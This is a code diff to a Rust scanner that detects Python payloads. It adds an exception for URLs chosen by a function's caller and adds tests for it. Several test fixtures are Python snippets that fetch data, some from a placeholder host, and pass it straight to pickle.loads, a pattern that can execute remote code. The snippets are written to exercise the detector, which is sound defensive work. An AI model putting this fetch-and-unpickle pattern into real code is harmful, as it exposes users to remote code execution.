@@ -229,7 +229,7 @@ fn plain_name(name: &str) -> bool {
 /// Whether a Python expression is fetched data, or decoded data whose encoded form is constant.
 fn python_payload(body: &str, call: usize, expr: &str) -> bool {
     if PY_NETWORK_RE.is_match(expr) {
-        return true;
+        return !caller_chosen_url(body, call, expr);
     }
     // Three decoders stacked (`decompress(b32decode(b64decode(x[::-1])))`) hide a payload whatever feeds them.
     if PY_DECODER_RE.find_iter(expr).take(3).count() >= 3 {
@@ -242,6 +242,79 @@ fn python_payload(body: &str, call: usize, expr: &str) -> bool {
             None => true,
         }
     })
+}
+
+/// Whether every request in `expr` fetches a URL that only a parameter of the function around `call`
+/// names (`def load(url): … requests.get(url)`, the parameter not rebound on the way): the caller chooses
+/// what is fetched, a library's feature. The data-flow rule (TNT003) still reports a caller in the module
+/// that passes a URL written in the code.
+fn caller_chosen_url(body: &str, call: usize, expr: &str) -> bool {
+    let Some((def_at, params)) = enclosing_parameters(&body[..call]) else {
+        return false;
+    };
+    let mut requests = 0;
+    for found in PY_NETWORK_RE.find_iter(expr).take(8) {
+        let rest = &expr[found.end()..];
+        let inside = if found.as_str().ends_with('(') {
+            arguments(rest, 0)
+        } else {
+            let Some(open) = rest.find('(') else {
+                return false;
+            };
+            if !rest[..open]
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
+            {
+                return false;
+            }
+            arguments(rest, open + 1)
+        };
+        let first = inside.split(',').next().unwrap_or_default().trim();
+        let name = first.strip_prefix("url=").unwrap_or(first).trim();
+        let is_param = plain_name(name) && !name.contains('.') && params.iter().any(|p| p == name);
+        if !is_param || last_binding(&body[def_at..call], name).is_some() {
+            return false;
+        }
+        requests += 1;
+    }
+    requests > 0
+}
+
+/// The offset and parameter names of the last `def` before `before`'s end (the function a call is in,
+/// as far as a line scan can tell).
+fn enclosing_parameters(before: &str) -> Option<(usize, Vec<String>)> {
+    let indent = |line: &str| line.len() - line.trim_start_matches([' ', '\t']).len();
+    let call_indent = indent(&before[before.rfind('\n').map_or(0, |i| i + 1)..]);
+    let def_at = before
+        .rmatch_indices("def ")
+        .take(64)
+        .map(|(at, _)| at)
+        .find(|at| {
+            let line_start = before[..*at].rfind('\n').map_or(0, |i| i + 1);
+            let lead = &before[line_start..*at];
+            let keyword = lead.trim_start();
+            (keyword.is_empty() || keyword == "async ") && indent(lead) < call_indent
+        })?;
+    let open = def_at + before[def_at..].find('(')?;
+    let params = arguments(before, open + 1)
+        .split(',')
+        .take(32)
+        // A parameter with a string default may hold a URL written in the code.
+        .filter(|p| {
+            !p.split_once('=')
+                .is_some_and(|(_, v)| v.trim().starts_with(['"', '\'']))
+        })
+        .filter_map(|p| {
+            let name = p
+                .trim()
+                .trim_start_matches('*')
+                .split([':', '='])
+                .next()?
+                .trim();
+            (!name.is_empty()).then(|| name.to_string())
+        })
+        .collect();
+    Some((def_at, params))
 }
 
 /// The first argument of the call whose name ends at `end` (the `(` may already be matched).
@@ -401,6 +474,19 @@ mod tests {
     fn decoding_runtime_data_is_a_wire_format_not_a_payload() {
         let quiet = "import base64, pickle, zlib\ndef restore(message):\n    return pickle.loads(base64.b64decode(message['state']))\ndef load(payload):\n    obj = pickle.loads(base64.b64decode(payload))\n    raw = zlib.decompress(frame.body)\n    return pickle.loads(raw), obj\n";
         assert!(python(quiet).is_empty(), "{:?}", python(quiet));
+    }
+
+    #[test]
+    fn a_url_the_caller_passes_is_left_to_the_data_flow_rule() {
+        let quiet = "import pickle, requests\ndef load_from_url(url, trust=False):\n    if not trust:\n        raise ValueError(url)\n    response = requests.get(url)\n    return pickle.loads(response.content)\ndef fetch(address):\n    with urllib.request.urlopen(address) as resp:\n        return pickle.load(resp)\n";
+        assert!(python(quiet).is_empty(), "{:?}", python(quiet));
+        // Rebound to a constant, or a constant host around it: the package chose the URL.
+        let rebound = "def load(url):\n    url = 'https://x.example.invalid/p'\n    return pickle.loads(requests.get(url).content)\n";
+        assert_eq!(python(rebound).len(), 1, "{:?}", python(rebound));
+        let host = "def load(name):\n    return pickle.loads(requests.get('https://x.example.invalid/' + name).content)\n";
+        assert_eq!(python(host).len(), 1, "{:?}", python(host));
+        let top_level = "r = requests.get(url)\nobj = pickle.loads(r.content)\n";
+        assert_eq!(python(top_level).len(), 1, "{:?}", python(top_level));
     }
 
     #[test]
